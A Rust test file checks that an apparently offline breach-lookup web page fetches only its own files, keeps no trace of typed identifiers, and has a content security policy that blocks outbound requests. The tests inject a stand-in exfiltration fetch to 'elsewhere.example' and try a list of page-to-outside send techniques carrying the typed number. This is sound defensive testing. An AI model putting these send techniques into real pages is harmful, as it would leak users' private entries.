//! Nothing leaves the page, and nothing that was typed stays.

use std::io::Read;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

use testkit::web::Site;

use crate::driver::{LIMIT, Trap};
use crate::golden;
use crate::page::Page;

/// What is typed, and looked for afterwards.
const TYPED: &str = "13912345678";
/// How long what must not come is waited for.
const PATIENCE: Duration = Duration::from_millis(500);

#[test]
fn it_asks_for_its_own_files_and_nothing_else() -> Result<()> {
    let site = testkit::web::site()?;
    let trap = Trap::set()?;
    // As most hosts serve it: the page says its policy itself, and the worker has none.
    let page = Page::of(site.clone().without_header(), &[&trap.argument()])?;
    page.wait_until_offline()?;
    page.choose_good(&golden("phone.lsv"))?;
    let before = page.server()?.requests();
    ensure!(page.ask(TYPED)?.verdict == "not_exposed");
    ensure!(page.ask("13800138000")?.verdict == "exposed");
    page.keep()?;
    page.speak("ar")?;
    // Neither a question nor a file asks for anything.
    let requests = page.server()?.requests();
    ensure!(requests == before, "{requests:?}");
    page.reload()?;
    page.browser
        .wait("document.body.dataset.state === 'open'")?;

    let requests = page.server()?.requests();
    println!("{} requests to the server: {requests:?}", requests.len());
    let mut fetched: Vec<&str> = Vec::new();
    for request in &requests {
        let name = request.strip_prefix("GET /").context("not GET")?;
        ensure!(
            name.is_empty() || site.names().any(|known| known == name),
            "{request}"
        );
        fetched.push(name);
    }
    for name in site.names() {
        let name = if name == "index.html" { "" } else { name };
        ensure!(
            fetched.contains(&name),
            "{name} was not kept for offline use"
        );
    }
    // As the browser sees it.
    let addresses = page.browser.requested()?;
    ensure!(addresses.len() > 10, "{addresses:?}");
    for address in addresses {
        let name = address.strip_prefix(&page.address);
        let is_own =
            name.is_some_and(|name| name.is_empty() || site.names().any(|known| known == name));
        ensure!(is_own, "{address}");
    }
    // Of the worker too, and of whatever else.
    let caught = trap.caught();
    ensure!(caught.is_empty(), "{caught:?}");
    Ok(())
}

/// The trap of the test above catches what a worker sends, and the policy as a header keeps
/// a worker from it.
#[test]
fn a_worker_that_sends_is_noticed() -> Result<()> {
    let mut files = testkit::web::sources()?;
    files
        .get_mut("sw.js")
        .context("no worker")?
        .extend_from_slice(b"fetch('http://elsewhere.example/?x', { mode: 'no-cors' });");
    let site = Site::of(files)?;
    for (site, is_bound) in [(site.clone().without_header(), false), (site, true)] {
        let trap = Trap::set()?;
        let page = Page::of(site, &[&trap.argument()])?;
        page.wait_until_offline()?;
        let start = Instant::now();
        let limit = if is_bound { PATIENCE } else { LIMIT };
        while trap.caught().is_empty() && start.elapsed() < limit {
            std::thread::sleep(Duration::from_millis(10));
        }
        let caught = trap.caught();
        ensure!(caught.is_empty() == is_bound, "{caught:?}");
    }
    Ok(())
}

/// Once the worker is there, its own host is not reached either.
#[test]
fn nothing_that_is_asked_for_reaches_the_host() -> Result<()> {
    let page = Page::of(testkit::web::site()?.without_header(), &[])?;
    page.wait_until_offline()?;
    page.reload()?;
    let before = page.server()?.requests().len();
    let failed = page.browser.run_async(
        "let failed = 0;
         for (const ask of [
           () => fetch('nothing?13912345678'),
           () => fetch('./', { method: 'POST', body: '13912345678' }),
           () => fetch('./share/13912345678', { method: 'POST', body: '13912345678' }),
           () => fetch('./nothing/13912345678', { cache: 'reload' }),
         ]) {
           await ask().catch(() => { failed += 1; });
         }
         // What the page has is given, whatever stands behind its name.
         const answer = await fetch('app.js?13912345678', { cache: 'reload' });
         return answer.ok ? failed : 0;",
        &Value::Null,
    )?;
    ensure!(failed == json!(4), "{failed}");
    page.browser
        .goto(&format!("{}?13912345678", page.address))?;
    page.wait_until_started()?;
    let requests = page.server()?.requests();
    // The browser's own look for a next version.
    let others: Vec<_> = requests[before..]
        .iter()
        .filter(|request| *request != "GET /sw.js")
        .collect();
    ensure!(others.is_empty(), "{others:?}");
    Ok(())
}

#[test]
fn what_is_typed_is_nowhere() -> Result<()> {
    let page = Page::open()?;
    let length = page.browser.run("return history.length;")?;
    page.choose_good(&golden("bundle.lsv"))?;
    for kind in ["phone", "email", "password"] {
        let said = page.ask_all(&[(kind, TYPED)])?;
        ensure!(!said[0].verdict.is_empty());
        let is_masked = page
            .browser
            .run("return getComputedStyle(document.getElementById('identifier')).webkitTextSecurity === 'disc';")?;
        ensure!(is_masked == json!(kind == "password"), "{kind}");
    }
    // A password manager keeps what is typed into such fields, a translator sends what it shows.
    let lures = page.browser.run(
        "return [document.querySelectorAll('[type=password], [autocomplete*=password], [autocomplete=username]').length,
           ['verdict', 'file-status', 'identifier', 'key'].every((id) => document.getElementById(id).translate === false)];",
    )?;
    ensure!(lures == json!([0, true]), "{lures}");
    // The verdict does not repeat it, and it is in no place that lasts.
    page.keep()?;
    page.wait_until_offline()?;
    let places = page.browser.run_async(
        "const places = { ...localStorage, ...sessionStorage, cookie: document.cookie,
           address: location.href, state: history.state, body: document.body.innerText };
         let numFiles = 0;
         const read = async (path, folder) => {
           for await (const handle of folder.values()) {
             const name = `${path}/${handle.name}`;
             if (handle.kind === 'directory') {
               await read(name, handle);
             } else {
               places[name] = await (await handle.getFile()).text();
               numFiles += 1;
             }
           }
         };
         await read('files', await navigator.storage.getDirectory());
         for (const cache of await caches.keys()) {
           const opened = await caches.open(cache);
           for (const request of await opened.keys()) {
             places[`${cache} ${request.url}`] = await (await opened.match(request)).text();
             numFiles += 1;
           }
         }
         if (numFiles < 10) throw `only ${numFiles} files`;
         if ((await indexedDB.databases()).length > 0) throw 'there is a database';
         return JSON.stringify(places);",
        &Value::Null,
    )?;
    let places = places.as_str().context("no text")?;
    ensure!(
        places.contains("Golden") && !places.contains(TYPED),
        "{places}"
    );
    ensure!(page.browser.run("return history.length;")? == length);
    let console = page.browser.console()?;
    ensure!(console.is_empty(), "{console:?}");
    let fields = page.browser.run(
        "return Array.from(document.querySelectorAll('form, input:not([type=radio], [type=file]), textarea'),
           (field) => [field.autocomplete, field.tagName !== 'FORM' && field.spellcheck]);",
    )?;
    let fields = fields.as_array().context("no fields")?;
    ensure!(fields.len() >= 4, "{fields:?}");
    for field in fields {
        ensure!(*field == json!(["off", false]), "{fields:?}");
    }

    // Gone with another kind, another file, and a reload.
    page.ask_all(&[("password", TYPED)])?;
    page.browser
        .run("document.querySelector('#kinds input').click();")?;
    let value = "return document.getElementById('identifier').value;";
    ensure!(page.browser.run(value)? == json!(""));
    page.ask_all(&[("phone", TYPED)])?;
    ensure!(page.browser.run(value)? == json!(TYPED));
    page.choose_good(&golden("phone.lsv"))?;
    ensure!(page.browser.run(value)? == json!(""));
    page.ask(TYPED)?;
    page.reload()?;
    ensure!(page.browser.run(value)? == json!(""));
    Ok(())
}

#[test]
fn the_policy_refuses_what_would_send() -> Result<()> {
    // The page's own: no header helps it.
    let page = Page::of(testkit::web::site()?.without_header(), &[])?;
    let elsewhere = TcpListener::bind("127.0.0.1:0")?;
    elsewhere.set_nonblocking(true)?;
    let there = elsewhere.local_addr()?;
    let violations = page.browser.run_async(
        "const seen = [];
         document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
         const tries = [
           () => fetch(`http://${given}/?13912345678`, { mode: 'no-cors' }),
           () => navigator.sendBeacon(`http://${given}/`, '13912345678'),
           () => new WebSocket(`ws://${given}/`),
           () => new EventSource(`http://${given}/`),
           () => { new Image().src = `http://${given}/?13912345678`; },
           () => document.body.append(Object.assign(document.createElement('script'), { src: `http://${given}/` })),
           () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' })),
           () => document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' })),
           () => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${given}/` })),
           () => document.head.append(Object.assign(document.createElement('base'), { href: `http://${given}/` })),
           () => {
             const form = Object.assign(document.createElement('form'), { action: `http://${given}/`, method: 'post' });
             document.body.append(form);
             form.submit();
           },
         ];
         for (const send of tries) {
           try { Promise.resolve(send()).catch(() => {}); } catch { /* as it should be */ }
         }
         // A busy browser reports a refusal late. What is not refused is never reported.
         const start = Date.now();
         while (seen.length < tries.length && Date.now() - start < 60000) {
           await new Promise((go) => setTimeout(go, 100));
         }
         await new Promise((go) => setTimeout(go, 500));
         return { seen, ran: Boolean(window.ran), display: getComputedStyle(document.body).display };",
        &json!(there.to_string()),
    )?;
    ensure!(violations["ran"] == json!(false) && violations["display"] != json!("none"));
    let seen: Vec<&str> = violations["seen"]
        .as_array()
        .context("no list")?
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for (directive, count) in [
        ("connect-src", 4),
        ("img-src", 1),
        ("script-src-elem", 2),
        ("style-src-elem", 1),
        ("frame-src", 1),
        ("base-uri", 1),
        ("form-action", 1),
    ] {
        let found = seen.iter().filter(|found| **found == directive).count();
        ensure!(found >= count, "{directive}: {found} of {count}: {seen:?}");
    }
    // A browser connects ahead of a navigation that it then refuses: nothing was said.
    while let Ok((mut connection, _)) = elsewhere.accept() {
        connection.set_nonblocking(false)?;
        connection.set_read_timeout(Some(Duration::from_millis(200)))?;
        let mut said = Vec::new();
        let _ = connection.read_to_end(&mut said);
        let said = String::from_utf8_lossy(&said);
        ensure!(said.is_empty(), "{said}");
    }
    Ok(())
}
